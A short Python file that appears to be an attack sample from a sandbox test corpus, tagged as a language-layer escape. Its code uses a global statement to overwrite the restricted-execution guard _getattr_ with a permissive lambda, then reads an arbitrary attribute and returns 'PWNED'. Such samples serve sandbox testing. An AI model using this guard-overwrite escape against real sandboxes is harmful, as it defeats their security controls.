# attack: global-statement-guard
# layer: language
# class: escape
# success: global makes an assignment replace a guard
def run():
    global _getattr_
    _getattr_ = lambda o, n: n
    return "PWNED " + ().anything
